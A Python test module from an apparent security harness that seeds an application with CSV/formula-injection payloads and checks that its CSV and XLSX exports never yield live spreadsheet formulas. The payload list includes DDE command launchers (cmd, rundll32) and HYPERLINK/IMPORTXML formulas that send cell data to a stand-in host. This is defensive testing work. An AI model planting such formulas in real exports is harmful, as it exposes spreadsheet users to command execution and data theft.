"""S4: no table for a spreadsheet holds a formula.

Texts that spreadsheets take for formulas are put wherever a text may stand. Every table that can be
had for a spreadsheet is taken as text and as a file: read back as a spreadsheet reads it, no cell may
begin with what begins a formula, unless a number stands in it; in the file itself no cell may be a
formula. The payloads must be there as texts. What is for programs says everything exactly instead.
Control: a door that takes the apostrophes away.
"""

from __future__ import annotations

import asyncio
import csv
import io
import re
import zipfile

from .check import Check, HarnessError, Stage
from .client import Client, steward
from .openapi import read
from .seeding import fill
from .wire import Answer

tenant = "hor-saar"
_number = re.compile(r"[+-]?\d+([.,:]\d+)*( ?(%|EUR|€))?")
_constant = re.compile(r'="[\w .-]*"')
_starts = ("=", "+", "-", "@", "\t", "\r", "\0")
mark = "kq0000000054"
_bodies = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example";"y")', "SUM(1+1)*cmd|'/c calc'!A0",
    "IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")", "2+5+cmd|' /C notepad'!A0",
    "DDE(\"cmd\";\"/C calc\";\"x\")", "rundll32|'URL.dll,OpenURL calc'!A", "A1", "1")


def payloads() -> list[str]:
    """Texts that begin a formula somewhere."""
    heads = ("=", "+", "-", "@", "=-", "+=", "@=", "-=", "=@", "＝", "%3D", "'=", "\"=", ";=", " =")
    return [f"{head}{body} {mark}" for head in heads for body in _bodies]


def _cells(answer: Answer) -> list[str]:
    text = answer.body.decode("utf-8-sig")
    head = text.split("\n", 1)[0]
    separator = ";" if head.count(";") > head.count(",") else ","
    return [cell for row in csv.reader(io.StringIO(text), delimiter=separator) for cell in row]


def _bare(answer: Answer) -> Answer:
    """The planted fault: the same table without apostrophes before its cells."""
    body = re.sub(rb"(^|[;,\"\n])'(?=[=+@-])", rb"\1", answer.body)
    return Answer(answer.status, answer.head, body, answer.at)


def _sheet_faults(answer: Answer) -> list[str]:
    """The formulas of a spreadsheet."""
    with zipfile.ZipFile(io.BytesIO(answer.body)) as book:
        parts = [one for one in book.namelist() if one.startswith("xl/worksheets/")]
        faults = [one for one in parts if re.search(rb"<f[ >/]", book.read(one))]
        faults += [one for one in book.namelist() if "externalLink" in one or "vba" in one.lower()]
    return faults


async def _examine(stage: Stage, client: Client, *, is_bare: bool) -> tuple[int, int, int]:
    document = (await client.ask("GET", "/api/openapi.json")).json()
    lists = [
        one.template for one in read(document).routes
        if one.method == "GET" and one.tail == "export"]
    tables = cells = found = 0
    for target in lists:
        for form in ("excel", "xlsx"):
            answer = await client.ask("GET", f"{target}?format={form}")
            if answer.status != 200:
                continue
            tables += 1
            if form == "xlsx":
                for fault in _sheet_faults(answer):
                    stage.findings.fault(f"a formula in the spreadsheet of {target}: {fault}")
                continue
            shown = _bare(answer) if is_bare else answer
            for cell in _cells(shown):
                cells += 1
                found += mark in cell
                # A constant such as ="01067" keeps its noughts and calculates nothing.
                is_constant = _constant.fullmatch(cell) and mark not in cell
                if cell.startswith(_starts) and not _number.fullmatch(cell) and not is_constant:
                    stage.findings.fault(f"a formula in the table of {target}?format={form}: {cell[:60]!r}")
    return tables, cells, found


def _perform(stage: Stage, *, is_bare: bool) -> None:
    server = stage.server()
    server.start()

    async def main() -> tuple[int, int, int]:
        client = Client(server, tenant, server.token(tenant, *steward))
        chosen = payloads()
        stage.rng.shuffle(chosen)
        seeded = await fill(
            client, mark, stage.rng, each=stage.figure, texts=chosen[:stage.figure])
        if len(seeded.ids) < 5:
            raise HarnessError(f"hardly anything was made: {seeded.failed}")
        result = await _examine(stage, client, is_bare=is_bare)
        client.close()
        return result

    tables, cells, found = asyncio.run(main())
    if tables < 6 or found < stage.figure:
        raise HarnessError(f"{tables} tables with {found} payloads: the search is blind")
    stage.findings.figure(
        f"{stage.figure} payloads in {tables} tables: {found} of {cells} cells hold one, "
        "none is a formula")


def run(stage: Stage) -> None:
    """Takes every table."""
    _perform(stage, is_bare=False)


def control(stage: Stage) -> None:
    """The same behind a door that takes the apostrophes away."""
    _perform(stage, is_bare=True)


check = Check(
    id="S4", promise="no table for a spreadsheet holds a formula", unit="payloads", run=run, ci=15,
    long=150, control_figure=3, control_run=control, control_on_program=True,
    control_says="a formula in the table")
